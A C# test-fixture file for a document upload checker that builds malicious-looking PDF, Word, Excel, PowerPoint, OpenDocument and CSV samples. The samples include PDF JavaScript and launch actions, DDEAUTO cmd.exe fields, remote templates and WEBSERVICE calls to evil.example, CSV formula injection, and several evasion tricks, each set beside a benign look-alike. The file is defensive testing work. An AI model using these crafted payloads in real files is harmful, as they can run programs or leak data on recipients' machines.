using System.IO.Compression;
using System.Text;
using Acquisitieloket.Core.Documents;

namespace Acquisitieloket.Testing;

/// <summary>Files that would act on the computer of whoever opens them, and ordinary ones that only look like it.</summary>
public static class ActingFiles
{
    private const string Office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private const string Address = "<</S/URI/URI(https://evil.example)>>";
    private const string Script = "<</S/JavaScript/JS(app.alert\\(1\\))>>";

    /// <summary>What it is, the file with its name, and why it is refused.</summary>
    public static IReadOnlyList<(string What, string Name, byte[] Content, FileFault Fault)> Refused { get; } =
    [
        ("script when opened", "plan.pdf", Pdf($"<</Type/Catalog/OpenAction{Script}>>"), FileFault.Active),
        ("script with an escaped name", "plan.pdf", Pdf("<</S/J#61vaScript/J#53 5 0 R>>"), FileFault.Active),
        ("script behind a comment", "plan.pdf", Pdf("<</S%x\n/JavaScript\n>>"), FileFault.Active),
        ("script in the names", "plan.pdf", Pdf("<</Names<</JavaScript 5 0 R>>>>"), FileFault.Active),
        ("script in what looks like a text", "plan.pdf", Pdf($"(5 0 obj {Script} endobj)"), FileFault.Active),
        ("script in packed objects", "plan.pdf", PackedPdf(Script), FileFault.Active),
        ("script in packed objects behind an open text", "plan.pdf", PackedPdf(Script, "(open "), FileFault.Active),
        ("packed in a way nobody packs", "plan.pdf", PackedPdf("1", filter: "[/ASCIIHexDecode/FlateDecode]"), FileFault.Active),
        ("packed objects that begin nowhere", "plan.pdf", PackedPdf("1", first: "7 0 R"), FileFault.Active),
        ("program that is started", "plan.pdf", Pdf("<</S/Launch/F(calc.exe)>>"), FileFault.Active),
        ("file in the file", "plan.pdf", Pdf("<</Names<</EmbeddedFiles 5 0 R>>>>"), FileFault.Active),
        ("form with scripts of its own", "plan.pdf", Pdf("<</AcroForm<</XFA[(a)5 0 R]>>>>"), FileFault.Active),
        ("address that is opened", "plan.pdf", Pdf($"<</OpenAction{Address}>>"), FileFault.Active),
        ("address that an object opens", "plan.pdf", Pdf($"<</OpenAction 7 0 R>>endobj 7 0 obj{Address}"), FileFault.Active),
        ("address that a packed object opens", "plan.pdf", PackedPdf("<</OpenAction 5 0 R/S/URI/URI(https://evil.example)>>"), FileFault.Active),
        ("address behind a comment in its number", "plan.pdf", Pdf($"<</Open#41ction 7 0 R>>endobj 7 %\n0 obj{Address}"), FileFault.Active),
        ("address at the turning of a page", "plan.pdf", Pdf($"<</Type/Page/AA<</O{Address}>>>>"), FileFault.Active),
        ("address at an event that an object holds", "plan.pdf", Pdf($"<</AA 7 0 R>>endobj 7 0 obj<</O 8 0 R>>endobj 8 0 obj{Address}"), FileFault.Active),
        ("address that comes after", "plan.pdf", Pdf("<</OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 8 0 R>>>>"), FileFault.Active),
        ("answers that are sent", "plan.pdf", Pdf("<</OpenAction<</S/SubmitForm/F(https://evil.example)>>>>"), FileFault.Active),
        ("other file that is opened", "plan.pdf", Pdf("<</OpenAction<</S/GoToR/F(//evil.example/x.pdf)>>>>"), FileFault.Active),
        ("actions in actions without end", "plan.pdf", Pdf("<</AA 1 0 R>>endobj" + string.Concat(Enumerable.Range(1, 9).Select(i => $" {i} 0 obj {i + 1} 0 R endobj"))), FileFault.Active),
        ("packed objects that are damaged", "plan.pdf", BrokenPdf(""), FileFault.Broken),
        ("packed objects that are locked", "plan.pdf", BrokenPdf("/Encrypt 9 0 R"), FileFault.Locked),
        ("packed objects without end", "plan.pdf", PackedPdf(new string(' ', 1024 * 1024), times: 120), FileFault.Bomb),
        ("objects in objects without end", "plan.pdf", Pdf(string.Concat(Enumerable.Repeat("obj(", 2_000_000))), FileFault.Bomb),
        ("remote template", "plan.docx", Docx("attachedTemplate", "https://evil.example/x.dotm"), FileFault.Remote),
        ("template on a share", "plan.docx", Docx("attachedTemplate", "file:///\\\\evil.example\\x\\y.dotm"), FileFault.Remote),
        ("template on a share, escaped", "plan.docx", Docx("attachedTemplate", "file:///%5c%5cevil.example%5cx.dotm"), FileFault.Remote),
        ("remote picture", "plan.docx", Docx("image", "http://evil.example/pixel.png"), FileFault.Remote),
        ("remote object", "plan.docx", Docx("oleObject", "mhtml:http://evil.example/x!x-usc:y"), FileFault.Embedded),
        ("object of another program", "plan.docx", Docx("oleObject", "embeddings/oleObject1.bin"), FileFault.Embedded),
        ("control", "plan.docx", Docx("control", "activeX/activeX1.xml"), FileFault.Embedded),
        ("object under another name", "plan.docx", Docx("image", "media/a.png", ("word/media/a.png", SampleFiles.OldOffice())), FileFault.Embedded),
        ("program under another name", "plan.docx", Docx("image", "media/a.png", ("word/media/a.png", SampleFiles.Program())), FileFault.Embedded),
        ("macros by relation only", "plan.docx", Docx("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "a.bin"), FileFault.Macros),
        ("macros with an escaped type", "plan.docx", Typed("application/vnd.ms-word.document.m&#97;croEnabled.main+xml"), FileFault.Macros),
        ("macros behind two megabytes", "plan.docx", Typed($"x\"/>{new string(' ', 2 << 20)}<Override ContentType=\"application/vnd.ms-office.vbaProject"), FileFault.Macros),
        ("macros in the document in the document", "plan.docx", Docx("package", "embeddings/a.xlsx", ("word/embeddings/a.xlsx", SampleFiles.DocxWithHiddenMacros())), FileFault.Macros),
        ("document in a document in a document", "plan.docx", Docx("package", "e/a.docx", ("word/e/a.docx", Docx("package", "e/b.docx", ("word/e/b.docx", SampleFiles.Docx())))), FileFault.Embedded),
        ("text of another kind that is drawn in", "plan.docx", Docx("aFChunk", "a.rtf"), FileFault.Embedded),
        ("field that starts a program", "plan.docx", Word(Run("begin") + Words("DDEAUTO c:\\\\windows\\\\cmd.exe \"/k calc\"") + Run("end")), FileFault.Commands),
        ("field in small letters", "plan.docx", Word(Run("begin") + Words(" dde excel x") + Run("separate") + Run("end")), FileFault.Commands),
        ("field over many runs", "plan.docx", Word(Run("begin") + Words(" D") + Words("DE") + Words("AU") + Words("TO x") + Run("end")), FileFault.Commands),
        ("field that is never closed", "plan.docx", Word(Run("begin") + Words("DDEAUTO x")), FileFault.Commands),
        ("field whose name another one makes", "plan.docx", Word(Run("begin") + Run("begin") + Words("QUOTE 68 68 69") + Run("end") + Words(" x") + Run("end")), FileFault.Commands),
        ("field whose name another one completes", "plan.docx", Word(Run("begin") + Words(" D") + Run("begin") + Words("QUOTE 68 69") + Run("end") + Run("end")), FileFault.Commands),
        ("field in what a field shows", "plan.docx", Word(Run("begin") + Words("PAGE") + Run("separate") + Run("begin") + Words("DDE x") + Run("end") + Run("end")), FileFault.Commands),
        ("simple field that starts a program", "plan.docx", Word("<w:fldSimple w:instr='DDE excel x'/>"), FileFault.Commands),
        ("field in a header of any name", "plan.docx", SampleFiles.Zip(("[Content_Types].xml", $"<Types><Override ContentType=\"{SampleFiles.Word}\"/></Types>"), ("word/document.xml", "<w/>"), ("word/header.bin", WordXml("<w:fldSimple w:instr='DDE x'/>"))), FileFault.Commands),
        ("linked object in a field", "plan.docx", Word(Run("begin") + Words(" LINK Excel.Sheet.12 C:\\\\a.xlsx") + Run("end")), FileFault.Commands),
        ("remote picture in a field", "plan.docx", Word(Run("begin") + Words(" INCLUDEPICTURE \"https://evil.example/x.png\" \\d") + Run("end")), FileFault.Remote),
        ("picture on a share in a field", "plan.docx", Word("<w:fldSimple w:instr='INCLUDEPICTURE \\\\\\\\evil.example\\\\x.png'/>"), FileFault.Remote),
        ("remote text in a field", "plan.docx", Word("<w:fldSimple w:instr='INCLUDETEXT \"https://evil.example/x.docx\"'/>"), FileFault.Remote),
        ("picture whose place a field makes", "plan.docx", Word(Run("begin") + Words("INCLUDEPICTURE ") + Run("begin") + Words("QUOTE 104") + Run("end") + Run("end")), FileFault.Remote),
        ("table of a database", "plan.docx", Word("<w:fldSimple w:instr='DATABASE \\c x'/>"), FileFault.Remote),
        ("program behind a cell", "plan.xlsx", Excel("<ddeLink ddeService='cmd' ddeTopic='/c calc'/>"), FileFault.Commands),
        ("figures of another workbook", "plan.xlsx", Excel("<externalBook/>"), FileFault.Remote),
        ("figures of another workbook by relation", "plan.docx", Docx("externalLink", "externalLinks/externalLink1.xml"), FileFault.Remote),
        ("figures of a database", "plan.xlsx", Excel("<connections><connection/></connections>"), FileFault.Remote),
        ("formula that asks elsewhere", "plan.xlsx", Excel("<c><f>1+_xlfn.WEBSERVICE(\"https://evil.example/\"&amp;A1)</f></c>"), FileFault.Remote),
        ("formula that calls a program", "plan.xlsx", Excel("<c><f>CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)</f></c>"), FileFault.Commands),
        ("program behind a slide", "plan.pptx", Slide("ppaction://program"), FileFault.Commands),
        ("link to a program in an OpenDocument", "plan.odt", Odt("<office:dde-source office:dde-application='cmd'/>"), FileFault.Commands),
        ("formula that calls a program in an OpenDocument", "plan.odt", Odt("<text:p text:formula='of:=DDE(\"cmd\";\"/c calc\";\"x\")'/>"), FileFault.Commands),
        ("program in a table", "tabel.csv", Latin("naam;m2\nHal;=cmd|'/C calc'!A0"), FileFault.Formulas),
        ("address in a table", "tabel.csv", Latin("naam;m2\nHal;\"=HYPERLINK(\"\"http://evil.example\"\")\""), FileFault.Formulas),
        ("sum in a table", "tabel.csv", Latin("@SUM(1+1)*cmd|' /C calc'!A0,x"), FileFault.Formulas),
        ("sum behind spaces", "tabel.csv", Latin("a\t  \" +1+HYPERLINK(x)\""), FileFault.Formulas),
        ("difference in a table", "tabel.csv", Latin("a\r\n-2+3+cmd|'/C calc'!A0"), FileFault.Formulas),
        ("sum in wide signs", "tabel.csv", Encoding.UTF8.GetBytes("a;＝1+1"), FileFault.Formulas),
        ("XML that unfolds", "plan.docx", SampleFiles.Zip(("[Content_Types].xml", "<!DOCTYPE x [<!ENTITY a \"aa\">]><Types>&a;</Types>")), FileFault.Broken),
        ("script in an OpenDocument", "plan.odt", Odt("<office:scripts><office:script/></office:scripts>"), FileFault.Macros),
        ("event in an OpenDocument", "plan.odt", Odt("<script:event-listener/>"), FileFault.Macros),
        ("remote picture in an OpenDocument", "plan.odt", Odt("<draw:image xlink:href='http://evil.example/x.png'/>"), FileFault.Remote),
        ("object in an OpenDocument", "plan.odt", Odt("<draw:object-ole xlink:href='./Object 1'/>"), FileFault.Embedded),
    ];

    /// <summary>Ordinary files with their names.</summary>
    public static IReadOnlyList<(string What, string Name, byte[] Content)> Taken { get; } =
    [
        ("text about scripts", "plan.pdf", Pdf("<</Title(React/JS \\(front-end\\) /JavaScript)/URI(https://x.example/Web/JavaScript)>>")),
        ("packed objects", "plan.pdf", PackedPdf("<</Type/Page/A<</S/URI/URI(https://x.example/JavaScript)>>>>")),
        ("link that is clicked", "plan.pdf", Pdf($"<</OpenAction[3 0 R/XYZ null null 0]>>endobj 3 0 obj<</Type/Page/Annots[<</Subtype/Link/A{Address}>>]>>")),
        ("place that an object opens", "plan.pdf", Pdf($"<</OpenAction 7 0 R>>endobj 7 0 obj<</S/GoTo/D 8 0 R>>endobj 8 0 obj[3 0 R/Fit]endobj 3 0 obj<</Type/Page/Annots[<</A{Address}>>]>>")),
        ("form that is sent with a click", "plan.pdf", Pdf("<</Subtype/Widget/A<</S/SubmitForm/F(https://x.example)>>>>")),
        ("word for object in a picture", "plan.pdf", Pdf("<</Length 9>>stream\nobj ( obj\nendstream")),
        ("hyperlink", "plan.docx", Docx("hyperlink", "https://www.voorbeeld.nl/JavaScript?a=b:c")),
        ("mail address", "plan.docx", Docx("hyperlink", "mailto:erika@muster.example")),
        ("template of its maker", "plan.docx", Docx("attachedTemplate", "file:///C:\\Users\\erika\\Normal.dotm")),
        ("picture of its own", "plan.docx", Docx("image", "media/a.png", ("word/media/a.png", SampleFiles.Png()))),
        ("figures behind a chart", "plan.docx", Docx("package", "embeddings/a.xlsx", ("word/embeddings/a.xlsx", SampleFiles.Xlsx()))),
        ("number of a page", "plan.docx", Word(Run("begin") + Words(" PAGE \\* MERGEFORMAT ") + Run("separate") + Run("end"))),
        ("link in a field", "plan.docx", Word(Run("begin") + Words(" HYPERLINK \"https://www.voorbeeld.nl/DDE\"") + Run("separate") + Run("end"))),
        ("choice in a field", "plan.docx", Word(Run("begin") + Words("IF") + Run("begin") + Words("DATE") + Run("end") + Words(" = 1 DDE") + Run("end"))),
        ("picture of its maker in a field", "plan.docx", Word("<w:fldSimple w:instr='INCLUDEPICTURE \"C:\\\\Users\\\\erika\\\\a.png\" \\* MERGEFORMATINET'/>")),
        ("picture of a mail in a field", "plan.docx", Word("<w:fldSimple w:instr='INCLUDEPICTURE \"cid:image001.png@01D9\"'/>")),
        ("words about programs", "plan.docx", Word("<w:t>DDEAUTO cmd</w:t>")),
        ("sums", "plan.xlsx", Excel("<c><f>SUM(A1:A9)*HYPERLINK(\"https://www.voorbeeld.nl\")</f><v>WEBSERVICE(1)</v></c>")),
        ("next slide", "plan.pptx", Slide("ppaction://hlinkshowjump?jump=nextslide")),
        ("sums in an OpenDocument", "plan.odt", Odt("<text:p text:formula='of:=SUM([.A1:.A9])'/>")),
        ("numbers with signs", "tabel.csv", Latin("-5;+31 6 12345678;+31(0)74-1234567;- ;-;=====;@home;\"- kavel, (5.000)\";a=b+SUM(1);-5%")),
        ("lines with signs", "brief.txt", Latin("=SUM(1)\n- wens\n+cmd|x")),
        ("link in an OpenDocument", "plan.odt", Odt("<office:scripts/><text:a xlink:href='https://www.voorbeeld.nl/'/><draw:image xlink:href='Pictures/a.png'/>")),
    ];

    private static string Run(string kind) => $"<w:r><w:fldChar w:fldCharType=\"{kind}\"/></w:r>";

    private static string Words(string instruction) => $"<w:r><w:instrText xml:space=\"preserve\">{instruction}</w:instrText></w:r>";

    private static string WordXml(string body) =>
        $"<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:p>{body}</w:p></w:document>";

    private static byte[] Word(string body) => Added(SampleFiles.Docx(), "word/footer1.xml", WordXml(body));

    private static byte[] Excel(string body) => Added(SampleFiles.Xlsx(), "xl/a.xml",
        $"<x xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">{body}</x>");

    private static byte[] Slide(string action) => Added(SampleFiles.Pptx(), "ppt/slides/slide1.xml",
        $"<a:hlinkHover xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" action=\"{action}\"/>");

    private static byte[] Added(byte[] file, string name, string text)
    {
        using var bytes = new MemoryStream();
        bytes.Write(file);
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Update, leaveOpen: true))
        {
            using var part = zip.CreateEntry(name).Open();
            part.Write(Encoding.UTF8.GetBytes(text));
        }
        return bytes.ToArray();
    }

    private static byte[] Pdf(string thing) => Latin($"%PDF-1.4\n1 0 obj{thing}endobj\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n");

    private static byte[] PackedPdf(string thing, string before = "", string filter = "/FlateDecode", string? first = null, int times = 1)
    {
        var header = $"5 {before.Length} ";
        using var packed = new MemoryStream();
        using (var zip = new ZLibStream(packed, CompressionLevel.Fastest, leaveOpen: true))
        {
            var content = Latin(before + thing);
            zip.Write(Latin(header));
            for (var i = 0; i < times; i++)
                zip.Write(content);
        }
        return [.. Latin($"%PDF-1.5\n1 0 obj<</Type/ObjStm/N 1/First {first ?? $"{header.Length}"}/Filter{filter}>>stream\n"),
            .. packed.ToArray(), .. Latin("\nendstream endobj\nstartxref\n0\n%%EOF\n")];
    }

    private static byte[] BrokenPdf(string more) =>
        Latin($"%PDF-1.5\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>stream\nnot packed at all\nendstream endobj\ntrailer<<{more}>>startxref\n0\n%%EOF\n");

    private static byte[] Docx(string relation, string target, params (string Name, byte[] Content)[] parts)
    {
        var type = relation.Contains(':') ? relation : Office + relation;
        using var bytes = new MemoryStream();
        bytes.Write(SampleFiles.Docx());
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Update, leaveOpen: true))
            foreach (var (name, content) in parts.Append(("word/_rels/document.xml.rels", Encoding.UTF8.GetBytes(
                $"<Relationships><Relationship Id=\"r1\" Type=\"{type}\" Target=\"{target.Replace("&", "&amp;")}\" TargetMode=\"External\"/></Relationships>"))))
            {
                using var part = zip.CreateEntry(name).Open();
                part.Write(content);
            }
        return bytes.ToArray();
    }

    private static byte[] Typed(string type) => SampleFiles.Zip(
        ("[Content_Types].xml", $"<Types><Override ContentType=\"{SampleFiles.Word}\"/><Override ContentType=\"{type}\"/></Types>"),
        ("word/document.xml", "<w/>"));

    private static byte[] Odt(string body)
    {
        const string oasis = "urn:oasis:names:tc:opendocument:xmlns";
        return SampleFiles.Zip(("mimetype", "application/vnd.oasis.opendocument.text"),
            ("META-INF/manifest.xml", "<manifest/>"),
            ("content.xml", $"<office:document-content xmlns:office='{oasis}:office:1.0' xmlns:script='{oasis}:script:1.0' "
                + $"xmlns:draw='{oasis}:drawing:1.0' xmlns:text='{oasis}:text:1.0' xmlns:xlink='http://www.w3.org/1999/xlink'>{body}</office:document-content>"));
    }

    private static byte[] Latin(string text) => Encoding.Latin1.GetBytes(text);
}
